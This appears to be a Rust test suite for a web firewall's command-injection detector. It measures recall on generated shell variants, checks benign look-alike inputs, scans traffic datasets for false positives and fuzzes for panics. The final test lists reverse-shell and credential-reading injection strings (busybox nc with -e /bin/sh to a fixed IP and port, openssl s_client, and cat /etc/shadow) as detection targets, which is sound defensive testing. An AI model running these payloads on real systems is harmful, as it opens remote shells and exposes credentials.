//! Command injection (Unix shell, Windows cmd/PowerShell): recall on generated variants of the
//! `shell-unix` and `shell-windows` families, realistic hard negatives, and (ignored, needs
//! `RAMPART_DATA`) recall on the pool's command-injection rows and an FP scan of real benign
//! traffic.

mod common;

use common::json::{decoded_view, parse, percent_decode, Json};
use std::collections::BTreeMap;
use syntax::{inspect_all, Input, Place};

/// The best finding over the value as the application receives it and the engine's decoded
/// view, at `level`.
fn detect(text: &str, place: Place, name: &str, level: u8) -> Option<&'static str> {
    let decoded = decoded_view(text);
    for (t, d) in [(text, false), (decoded.as_str(), true)] {
        let mut input = Input::new(t);
        input.place = place;
        input.name = name;
        input.decoded = d;
        input.sensitivity = level;
        let found = inspect_all(&input).find(|f| f.detector() == "command-injection");
        if let Some(f) = found {
            return Some(f.reason);
        }
    }
    None
}

fn family_recall(name: &str, n: usize) -> f64 {
    let family = evasion::family(name).expect("family registered");
    let variants = evasion::sample(family, 20261124, n);
    let mut per: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    let mut caught = 0;
    let mut missed = Vec::new();
    for v in &variants {
        // The harness percent-encodes the payload into the request, so the application
        // receives it as generated (transport layers included).
        let hit = detect(&v.payload, Place::QueryValue, "q", 1).is_some();
        for m in v.mutation.split('+') {
            let e = per.entry(m.to_string()).or_default();
            e.0 += hit as usize;
            e.1 += 1;
        }
        if hit {
            caught += 1;
        } else if missed.len() < 15 {
            missed.push(format!("{} | {}", v.mutation, v.payload));
        }
    }
    let distinct: std::collections::HashSet<&str> = variants.iter().map(|v| v.payload.as_str()).collect();
    let recall = caught as f64 / n as f64;
    println!("{name}: recall {:.2}% ({caught}/{n}), {} distinct payloads", recall * 100.0, distinct.len());
    for (m, (c, t)) in &per {
        println!("  {m:<16} {:>6.2}% ({c}/{t})", *c as f64 * 100.0 / *t as f64);
    }
    for m in &missed {
        println!("  MISS {m}");
    }
    assert!(distinct.len() > n / 2, "{name}: too few distinct variants");
    recall
}

#[test]
fn shell_unix_recall() {
    assert!(family_recall("shell-unix", 2000) >= 0.95);
}

#[test]
fn shell_windows_recall() {
    assert!(family_recall("shell-windows", 2000) >= 0.95);
}

/// Values real users and API consoles send that look shell-ish and must pass at level 1.
const HARD_NEGATIVES: &[&str] = &[
    "Tom & Jerry; cat lovers",
    "ls -la output explained",
    "Rock & Roll | Live at the Apollo",
    "Salt & pepper; serves 4",
    "Q&A: how do I cat a file?",
    "R&D; id card renewal",
    "Sleep 5 hours; wake up early",
    "echo chamber",
    "Terms & Conditions | Privacy",
    "cat food & dog toys",
    "The ping was 5 ms; host looked fine",
    "id",
    "ls",
    "pwd",
    "sort=id&dir=asc",
    "a=1&b=2&id=7",
    "report-2024.txt",
    "backup_final(1).tar.gz",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Wget/1.21.3",
    "node-fetch",
    "bash-completion",
    "php-fpm 8.2",
    "C:\\Program Files\\Common Files\\system\\ole db",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "C:\\Users\\Public\\Documents\\report.docx",
    "D:\\dir\\type\\notes.txt",
    "curl -X GET -H \"Content-Type: application/json\" -H \"Authorization: Bearer $DIGITALOCEAN_TOKEN\" \"https://api.digitalocean.com/v2/droplets?page=1&per_page=1\"",
    "curl -X POST \\\n  -H \"Content-Type: application/json\" \\\n  -H \"Authorization: Bearer $DIGITALOCEAN_TOKEN\" \\\n  -d '{\"name\":\"example.com\",\"ip_address\":\"1.2.3.4\"}' \\\n  \"https://api.digitalocean.com/v2/domains\"",
    "curl -sS -X GET \"https://inference.do-ai.run/v1/batches?limit=20\" -H \"Authorization: Bearer $DIGITALOCEAN_TOKEN\" | jq",
    "{\"event\":\"page_view\",\"dir\":\"ltr\",\"ver\":\"2.1\",\"type\":\"click\"}",
    "{\"e\":\"track\",\"props\":{\"cmd\":\"open\",\"start\":\"menu\",\"call\":\"run\"}}",
    "{\"ec\":\"video\",\"ea\":\"play\",\"el\":\"cmd /c tutorial\",\"ev\":1}",
    "utm_source=newsletter&utm_medium=email&utm_campaign=spring&ver=3",
    "_ga=GA1.2.123456789.1700000000; _gid=GA1.2.987654321.1700000000",
    "Mozilla/5.0 (Java; U; Id; samsung-gt-s3653w) UCBrowser8.2.1.144/69/444/UCWEB Mobile",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/5.0.18741/886; U; id) Presto/2.4.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "How do I run `ls -la` in my home folder? It shows hidden files, right? I am new to Linux and want to understand the output.",
    "I ran this script:\n```bash\n#!/bin/bash\nfor f in *.log; do\n  cat \"$f\" | grep ERROR\ndone\n```\nbut it prints nothing. Why?",
    "My cron line is `0 5 * * * /usr/bin/backup.sh > /tmp/backup.log 2>&1` and it never runs, can you help me figure out why this happens on Ubuntu?",
    "Start-Process is a cmdlet; what does it do compared to Invoke-Item in PowerShell? Please explain with an example for a beginner.",
    "Price: $5; $10 for two",
    "you & me | forever",
    "select the dir and type a name",
    "net user guide",
    "for each item in list do something",
    "if exist, update the record",
    "She said \"yes\"; he said 'no'",
    "`npm install` then `npm start`",
    "Use {cat,dog} as tags",
    "/search?q=who+am+i&lang=en",
    "Invoke the API with the token; see docs",
    "Golf tee; pack of 10",
    "tar & feathers",
    "openssl version",
    "scp upload | FAQ",
    "Sed quis custodiet; ipsos custodes",
    "Busybox | kids toys",
];

#[test]
fn hard_negatives_pass_at_level_one() {
    let mut fired = Vec::new();
    for s in HARD_NEGATIVES {
        if let Some(r) = detect(s, Place::QueryValue, "q", 1) {
            fired.push(format!("{r} | {s}"));
        }
    }
    println!("{} hard negatives, {} fired", HARD_NEGATIVES.len(), fired.len());
    assert!(fired.is_empty(), "{fired:#?}");
}

fn data_dir() -> Option<std::path::PathBuf> {
    let dir = std::env::var("RAMPART_DATA").unwrap_or_else(|_| "/work/shared/datasets".into());
    let p = std::path::PathBuf::from(dir);
    p.is_dir().then_some(p)
}

fn rows(file: &std::path::Path) -> Vec<Json> {
    std::fs::read_to_string(file).unwrap_or_default().lines().filter_map(parse).collect()
}

/// Recall of these checks alone on the pool's command-injection rows (rules not included).
#[test]
#[ignore]
fn pool_recall() {
    let Some(dir) = data_dir() else { return };
    let mut missed = String::new();
    for src in ["payloadbox", "payloadsallthethings", "fuzzdb", "websec_ext_cmdi", "awesome_waf_bypasses"] {
        let (mut hit, mut total) = (0, 0);
        for row in rows(&dir.join(format!("{src}.jsonl"))) {
            if row.str("label") != Some("command-injection") {
                continue;
            }
            let text = row.str("text").unwrap_or("");
            total += 1;
            if detect(text, Place::QueryValue, "q", 1).is_some() {
                hit += 1;
            } else {
                missed.push_str(&format!("{src}\t{text}\n"));
            }
        }
        println!("{src:<24} {hit}/{total}");
    }
    let _ = std::fs::write("/tmp/shell/own_missed.txt", missed);
}

/// Hits per reason on the real benign files, at level 1 (and how many more at level 2).
#[test]
#[ignore]
fn benign_fp_scan() {
    let Some(dir) = data_dir() else { return };
    let level = std::env::var("FP_LEVEL").ok().and_then(|l| l.parse().ok()).unwrap_or(1u8);
    let text_files = [
        "digitalocean_api_examples",
        "sharegpt_user_messages",
        "har_fixture_parts",
        "csic2010_lines",
        "fwaf_goodqueries_subset",
        "uap_core_user_agents",
    ];
    for file in text_files {
        let (mut n, mut hits) = (0, BTreeMap::<&str, usize>::new());
        let mut shown = 0;
        for row in rows(&dir.join(format!("{file}.jsonl"))) {
            let text = row.str("text").unwrap_or("");
            let place = if file == "uap_core_user_agents" { (Place::Header, "user-agent") } else { (Place::QueryValue, "q") };
            n += 1;
            let mut fields = vec![text.to_string()];
            if text.contains('=') && !text.contains('\n') && text.len() < 4000 {
                let query = text.split_once('?').map_or(text, |(_, q)| q);
                fields.extend(query.split('&').filter_map(|kv| kv.split_once('=')).map(|(_, v)| percent_decode(v, true)));
            }
            if let Some((r, f)) = fields.iter().find_map(|f| detect(f, place.0, place.1, level).map(|r| (r, f))) {
                *hits.entry(r).or_default() += 1;
                if shown < 12 {
                    shown += 1;
                    println!("    {r} | {}", f.chars().take(200).collect::<String>().replace('\n', "\\n"));
                }
            }
        }
        println!("{file}: {n} rows, {} hit: {hits:?}", hits.values().sum::<usize>());
    }
    for file in ["har_fixture_requests", "node_soap_requests"] {
        let (mut n, mut hits) = (0, BTreeMap::<&str, usize>::new());
        for row in rows(&dir.join("requests").join(format!("{file}.jsonl"))) {
            n += 1;
            let mut fields: Vec<(String, Place, String)> = Vec::new();
            let path = row.str("path").unwrap_or("");
            if let Some((p, q)) = path.split_once('?') {
                fields.push((percent_decode(p, false), Place::Path, String::new()));
                for kv in q.split('&') {
                    let (k, v) = kv.split_once('=').unwrap_or((kv, ""));
                    fields.push((percent_decode(v, true), Place::QueryValue, k.to_string()));
                }
            } else {
                fields.push((percent_decode(path, false), Place::Path, String::new()));
            }
            if let Some(Json::Obj(headers)) = row.get("headers") {
                for (k, v) in headers {
                    if let Json::Str(v) = v {
                        fields.push((v.clone(), Place::Header, k.to_ascii_lowercase()));
                    }
                }
            }
            let body = row.str("body").unwrap_or("");
            match parse(body) {
                Some(j) if body.trim_start().starts_with(['{', '[']) => {
                    let mut leaves = Vec::new();
                    j.strings(&mut leaves);
                    fields.extend(leaves.into_iter().map(|s| (s.to_string(), Place::BodyValue, String::new())));
                }
                _ if !body.is_empty() => {
                    fields.push((body.to_string(), Place::BodyRaw, String::new()));
                    for kv in body.split('&') {
                        let (k, v) = kv.split_once('=').unwrap_or((kv, ""));
                        fields.push((percent_decode(v, true), Place::BodyValue, k.to_string()));
                    }
                }
                _ => {}
            }
            if let Some(r) = fields.iter().find_map(|(t, p, name)| detect(t, *p, name, level)) {
                *hits.entry(r).or_default() += 1;
                println!("    {r} | {}", path.chars().take(160).collect::<String>());
            }
        }
        println!("{file}: {n} requests, {} hit: {hits:?}", hits.values().sum::<usize>());
    }
}

/// Neither check panics on arbitrary text (shell-heavy bytes, multi-byte characters, cut
/// escapes).
#[test]
fn never_panics() {
    let alphabet: Vec<char> = "ab/$'\"\\`{},;|&()<>%^?*[]~#:=+-_ .\n\tIFSé€😀0123456789cmdcatidx".chars().collect();
    let mut state = 0x1234_5678_9abc_def0u64;
    for _ in 0..20_000 {
        let mut s = String::new();
        state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        let len = (state >> 58) as usize + 1;
        for _ in 0..len * 2 {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            s.push(alphabet[(state >> 33) as usize % alphabet.len()]);
        }
        let mut input = Input::new(&s);
        input.sensitivity = 4;
        let _ = inspect_all(&input).count();
    }
}

/// Benign commands in front of the payload hide nothing, and a long line of them stays linear
/// (a cap on command positions would let padding hide `whoami`).
#[test]
fn padding_commands_hide_no_windows_command() {
    // A long line of words reads as prose (level 2, `prose::is_long_or_prose`), so the long
    // paddings are asked at level 2: what is tested is that the command is still found.
    for (pad, level) in [(16, 1), (17, 1), (30, 1), (100, 2), (20_000, 2)] {
        let text = format!("{}cmd /c whoami", "echo a&".repeat(pad));
        assert_eq!(detect(&text, Place::QueryValue, "q", level), Some("command-injection:windows-cmd"), "{pad} commands in front");
    }
}

/// Commands and wrappers added after a red-team pass (2026-11-26): an applet run through
/// `busybox`, and tools whose arguments make them an attacker's (a listener, a TLS reverse
/// shell, a remote X display, a stream editor on a sensitive file).
#[test]
fn wrapped_and_less_common_commands_are_caught() {
    for attack in [
        "x|busybox telnetd -l /bin/sh -p 9999",
        "; busybox nc 10.0.0.5 4444 -e /bin/sh",
        "; openssl s_client -quiet -connect 10.0.0.1:4444",
        "| xterm -display 10.0.0.1:1",
        "; sed -n 1,5p /etc/passwd",
        "&& doas cat /etc/shadow",
    ] {
        assert!(detect(attack, Place::QueryValue, "q", 1).is_some(), "missed: {attack}");
    }
}
